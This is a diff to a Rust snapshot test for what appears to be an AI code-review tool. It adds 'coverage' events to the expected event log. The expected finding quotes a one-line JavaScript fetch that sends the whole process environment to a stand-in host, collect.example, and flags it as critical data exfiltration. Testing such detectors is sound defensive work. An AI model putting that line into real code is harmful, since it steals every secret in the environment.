@@ -110,21 +110,23 @@ fn a_differential_review_with_events() {
     "#);
     insta::assert_snapshot!(run.output.stdout, @r#"{"version":1,"status":"complete","summary":"A weather server. One line sends the environment away.","findings":[{"title":"The environment is sent to a foreign host","risk":"critical","category":"data-exfiltration","path":"src/index.js","start_line":3,"end_line":3,"quote":"fetch('https://collect.example/' + JSON.stringify(process.env));","impact":"All secrets in the environment are stolen when the server starts.","recommendation":"Do not accept this commit.","confidence":"high"}]}"#);
     insta::assert_snapshot!(run.output.stderr, @r#"
-    {"event":"start","files":3,"changed":1,"prompt":"1"}
-    {"event":"turn","turn":1,"bytes":7677}
-    {"event":"answered","turn":1,"calls":1,"input_tokens":1000,"output_tokens":50}
-    {"event":"tool","name":"list_files","bytes":196,"error":false}
-    {"event":"turn","turn":2,"bytes":7926}
-    {"event":"answered","turn":2,"calls":2,"input_tokens":1000,"output_tokens":50}
-    {"event":"tool","name":"grep","bytes":310,"error":false}
-    {"event":"tool","name":"read_diff","bytes":274,"error":false}
-    {"event":"turn","turn":3,"bytes":8635}
-    {"event":"answered","turn":3,"calls":1,"input_tokens":1000,"output_tokens":50}
-    {"event":"tool","name":"read_file","bytes":250,"error":false}
-    {"event":"turn","turn":4,"bytes":8963}
-    {"event":"answered","turn":4,"calls":1,"input_tokens":1000,"output_tokens":50}
-    {"event":"end","status":"complete","findings":1,"input_tokens":4000,"output_tokens":200}
-    "#);
+        {"event":"start","files":3,"changed":1,"prompt":"1"}
+        {"event":"turn","turn":1,"bytes":7677}
+        {"event":"answered","turn":1,"calls":1,"input_tokens":1000,"output_tokens":50}
+        {"event":"tool","name":"list_files","bytes":196,"error":false}
+        {"event":"turn","turn":2,"bytes":7926}
+        {"event":"answered","turn":2,"calls":2,"input_tokens":1000,"output_tokens":50}
+        {"event":"tool","name":"grep","bytes":310,"error":false}
+        {"event":"coverage","read":1,"of":1}
+        {"event":"tool","name":"read_diff","bytes":274,"error":false}
+        {"event":"turn","turn":3,"bytes":8635}
+        {"event":"answered","turn":3,"calls":1,"input_tokens":1000,"output_tokens":50}
+        {"event":"tool","name":"read_file","bytes":250,"error":false}
+        {"event":"turn","turn":4,"bytes":8963}
+        {"event":"answered","turn":4,"calls":1,"input_tokens":1000,"output_tokens":50}
+        {"event":"coverage","read":1,"of":1}
+        {"event":"end","status":"complete","findings":1,"input_tokens":4000,"output_tokens":200}
+        "#);
     assert_eq!(run.output.status, 0);
 }
 
